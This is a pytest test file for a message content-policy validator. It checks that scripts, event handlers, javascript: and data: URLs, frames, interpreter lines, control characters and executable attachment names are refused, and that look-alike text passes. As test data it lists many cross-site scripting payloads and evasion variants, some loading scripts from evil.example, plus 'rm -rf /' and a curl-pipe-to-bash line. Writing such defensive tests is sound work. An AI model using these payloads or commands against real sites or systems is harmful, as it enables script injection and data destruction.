"""What a message may not carry, and the much larger rest that passes (spec section 2, "Prohibited content")."""

import pytest

from vigil.server.input import content_policy
from vigil.server.input.content_policy import EVENT_HANDLERS, PROHIBITED_EXTENSIONS, violations

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "text before <script>alert(1)</script> and after",
    "<script src=https://evil.example/x.js",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<<script>alert(1)//<</script>",
    '"><script>alert(1)</script>',
    "--><script>alert(1)</script>",
    "<!-- x --!><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "</title></textarea></style><script>alert(1)</script>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<title>a</title><script>b</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><g><unknown><script href=data:,alert(1) /></unknown></g></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<svg><style><script>alert(1)</script></style></svg>",
    "<table><tr><td><script>alert(1)</script>",
    "<select><script>alert(1)</script></select>",
    "<template><script>alert(1)</script></template>",
    "<div><template shadowrootmode=open><template><script>alert(1)</script></template></template></div>",
    "the tag is written <script",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="x" onerror="alert(1)',
    "<img src='x' onerror='alert(1)",
    "<IMG SRC=x ONERROR=alert(1)>",
    '<img/src="x"/onerror=alert(1)>',
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    '<img title="<" src=x onerror=alert(1)>',
    "<body onload=alert(1)>",
    "hello <body class=x onpageshow=alert(1)>",
    "<html onclick=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onend=alert(1) attributeName=x dur=1s>",
    "<svg><unknown><g onclick=alert(1)></g></unknown></svg>",
    "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
    "<animate onclick=alert(1)>x</animate>",
    "<math><mi><a onclick=alert(1)>x</a></mi></math>",
    "<math onmouseover=alert(1)>x</math>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<xss onpointerenter=alert(1)>x</xss>",
    "<custom-element onfocusin=alert(1) tabindex=1 autofocus></custom-element>",
    "<a) onclick=alert(1)>x",
    "<x onclick=alert(1) ",
    "<div style=animation-name:x onanimationstart=alert(1)></div>",
    "<p ontransitionend=alert(1)>x",
    "<form onsubmit=alert(1)><button>go</button></form>",
    "<button popovertarget=x onbeforetoggle=alert(1)>x</button>",
    "<textarea onbeforeinput=alert(1)></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table><td onclick=alert(1)>x",
    "<b>bold</b> and <i onwheel=alert(1)>italic</i>",
    '<p title="a"onclick="alert(1)">x',
]
URLS = [
    "<a href=javascript:alert(1)>x</a>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#1;&#32;javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    "<a href=java&#10;script:alert(1)>x</a>",
    "<a href=java&Tab;scr&NewLine;ipt&colon;alert(1)>x</a>",
    "<a href=&#106;&#x61;vascript&#0000058alert(1)>x</a>",
    "<a href='javascript://%0aalert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='DATA: text/HTML ,x'>x</a>",
    "<a href='data:application/xhtml+xml,x'>x</a>",
    "<a href='data:image/svg+xml;utf8,x'>x</a>",
    "<a href='data:text/xml,x'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button form=f formaction=javascript:alert(1)>x</button>",
    "<input type=submit formaction=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><a href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><a><animate attributeName=href values='x;javascript:alert(1)' /></a></svg>",
    "<svg><a><set attributeName=xlink:href to=javascript:alert(1) /></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4=#x'></use></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<area href=javascript:alert(1)>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<img src=javascript:alert(1)>",
    "<table background=javascript:alert(1)>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<meta http-equiv=refresh content=\"0; URL = 'data:text/html,x'\">",
    '<meta http-equiv=refresh content="3 javascript:alert(1)">',
    "<object><param name=url value=javascript:alert(1)></object>",
]
FRAMES = [
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<IFRAME SRC=//evil.example>",
    "<iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<object classid=clsid:0></object>",
    "<embed src=https://evil.example/x.swf>",
    "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>",
]
INTERPRETER_LINES = [
    "#!/bin/sh\nrm -rf /",
    "#! /usr/bin/env python3\nprint(1)",
    "#!\t/bin/bash",
    "#!./run",
    "#!C:\\Python\\python.exe",
]
CONTROLS = ["nul \0 in it", "\x01", "a\x08b", "\x0bvertical", "\x0cfeed", "\x1b[31mred", "end\x1f"]

INNOCENT = [
    "Hello, how can I help you today?",
    "Grüße, 你好, שלום, 🙂",
    "a < b && c > d",
    "a<b && c>d",
    "x<y>z",
    "if (a<b) onclick=...",
    "if a <b and c> d: print('x')",
    "1 < 2 > 0, i << 3, a <> b, <- and ->, <3",
    "for (int i=0;i<n;i++) { v[i]<<=1; }",
    "std::vector<std::pair<int, std::string>> v;",
    "List<String> names = new ArrayList<>();",
    "Map<String, List<Integer>> m; Optional<T> t; Vec<u8>, Rc<RefCell<Node>>",
    "List<object> things = null;",
    "Dictionary<string, object> d = new();",
    "<object at 0x7f>",
    "<__main__.Foo object at 0x7f3a2c1b>",
    "<function main at 0x7f3a2c1b>",
    "<class 'str'> and <module 'os' from '/usr/lib/python3.11/os.py'>",
    "List<embed> is a list of embeds",
    "def f(x):\n    return x if x < 3 else f(x - 1)\n",
    "import os\nos.system('ls')  # talked about, not run",
    "SELECT * FROM users WHERE age < 30 AND name <> 'x'; DROP TABLE users; --",
    "curl https://example.org/x.sh | bash",
    "document.getElementById('x').onclick = () => alert(1)",
    "javascript:alert(1) pasted in the address bar does nothing",
    "A bookmarklet is a URL such as javascript:void(0), not data:text/html,x",
    "onerror=alert(1) without a tag is only text",
    "mail me: <bob@example.org>, or see <https://example.org/a?b=c>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- <script>alert(1)</script> -->",
    "<textarea><script>alert(1)</script></textarea>",
    '<p title="<script>alert(1)</script>">x</p>',
    "<b>bold</b>, <i>italic</i>, <br>, <p class=x>paragraph</p>",
    "<a href=https://example.org/?q=javascript:alert(1)>link</a>",
    "<a href='/javascript:x'>x</a> <a href=' java script:x'>x</a> <a href='javascripts:x'>x</a>",
    "<img src=https://example.org/cat.png alt='javascript: the good parts'>",
    "<img src=data:image/png;base64,iVBORw0KGgo=>",
    "<p one=1 only online onboarding=x on onn once=2>not one of these is an event handler</p>",
    "<svg viewBox='0 0 1 1'><MyIcon><path d='M0 0L1 1'/></MyIcon></svg>",
    "<svg><animate attributeName=r values='1;2;3' from=1 to=2 /></svg>",
    "<math><mi>x</mi><mo>&lt;</mo><mn>3</mn></math>",
    "<style>p { color: red }</style><link rel=stylesheet href=style.css>",
    '<meta http-equiv=refresh content="5;url=https://example.org/">',
    "<form action=/search method=get><input name=q></form>",
    "<details open><summary>More</summary>text</details>",
    "<scripting> and <scripts> and <script-like> are no scripts",
    "</script> closes nothing here",
    "<iframes> are no frames",
    "<frameset onload=alert(1)> is ignored once a page has a body",
    "<img src=x/onerror=alert(1)> is all one source",
    "#!important",
    "#! is called a shebang",
    " #!/bin/sh is not at the start",
    "text\n#!/bin/sh on its second line",
    "tab\tnewline\ncarriage return\r\n",
    "delete \x7f and C1 \x85 are not C0 controls",
    "```html\n<div class='a'>x</div>\n```",
    "<template><p>x</p></template>",
    "Prompt: <|system|> you are <user>, <thinking> hmm </thinking>",
    "<" * 50,
]


@pytest.mark.parametrize("text", [*SCRIPTS, *HANDLERS, *URLS, *FRAMES])
def test_markup_that_a_browser_would_run_is_refused_and_named(text: str) -> None:
    problems = violations(text)
    assert [problem["path"] for problem in problems] == ["content"]
    assert problems[0]["message"].startswith("must not contain a")
    assert problems[0]["message"].endswith(": a browser would run it")


@pytest.mark.parametrize("text", [*SCRIPTS, *HANDLERS, *URLS, *FRAMES])
def test_it_is_refused_wherever_it_stands_in_the_text(text: str) -> None:
    assert violations(f"Dear agent,\n\n<b>look</b> a < b: {text}")
    assert violations("é" * 2_000 + text)


@pytest.mark.parametrize("text", INTERPRETER_LINES)
def test_text_that_starts_with_an_interpreter_line_is_refused(text: str) -> None:
    assert "interpreter line" in violations(text)[0]["message"]


@pytest.mark.parametrize("text", CONTROLS)
def test_control_characters_are_refused(text: str) -> None:
    assert "control characters" in violations(text)[0]["message"]


@pytest.mark.parametrize("text", INNOCENT)
def test_code_that_is_only_talked_about_passes(text: str) -> None:
    assert violations(text) == []


@pytest.mark.parametrize("handler", sorted(EVENT_HANDLERS))
def test_every_known_event_handler_is_refused_on_any_element(handler: str) -> None:
    assert handler in violations(f"<p {handler.upper()}=x>")[0]["message"]
    assert violations(f"<svg><rect {handler}=x>")


def test_every_control_character_but_tab_newline_and_return_is_refused() -> None:
    assert [c for c in range(0x80) if violations(chr(c))] == [*range(9), 11, 12, *range(14, 32)]


@pytest.mark.parametrize("extension", sorted(PROHIBITED_EXTENSIONS))
def test_names_of_executable_files_are_refused_in_any_case(extension: str) -> None:
    for name in (f"x.{extension}", f"x.pdf.{extension.upper()}", f".{extension}"):
        problems = violations("hi", ["fine.png", name])
        assert [problem["path"] for problem in problems] == ["attachments[1].name"]
        assert extension in problems[0]["message"]


@pytest.mark.parametrize(
    "name", ["x.exe.png", "exe", "x.jsx", "x.json", "report.com.pdf", "a.js.txt", "x.", "x", "", "日本.txt"]
)
def test_other_names_pass(name: str) -> None:
    assert violations("hi", [name]) == []


def test_attachment_names_are_read_like_the_text() -> None:
    names = ["<img src=x onerror=alert(1)>.png", "a\0.png", "#!/bin/sh", "<b>.exe"]
    assert [problem["path"] for problem in violations("hi", names)] == [
        f"attachments[{index}].name" for index in range(4)
    ]


def test_everything_that_is_wrong_is_said_at_once() -> None:
    problems = violations("#!/bin/sh\n\0<script>", ["<script>.exe"])
    assert [problem["path"] for problem in problems] == ["content"] * 3 + ["attachments[0].name"] * 2


HOSTILE = [
    *("<", "<a", "<a ", "<b>", "<div>", "<svg>", "<table>", "<template>", "<b><p>", "<a><p></a>", "&lt;"),
    *("<b><i><p>", "<table><b>", "<select><option>", "<svg><desc>", "<!--", "<![CDATA[", "<p x='", "</p>"),
]


@pytest.mark.parametrize(
    "text",
    [
        *(piece * (10_000 // len(piece)) for piece in HOSTILE),
        "<b>" * 1_500 + "<div>" * 500 + "</b>" * 500,
        "<b " + " ".join(f"a{n}" for n in range(1_900)) + ">",
        "<a href=" + "\t" * 9_000 + "x>",
    ],
    ids=lambda text: text[:24],
)
def test_a_text_made_to_be_slow_is_judged_like_any_other(text: str) -> None:
    assert violations(text) == []


def test_a_text_without_a_tag_is_not_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delattr(content_policy, "_elements")
    assert violations("Hello, how can I help you today? a < b") == []
    with pytest.raises(NameError):
        violations("<b>")
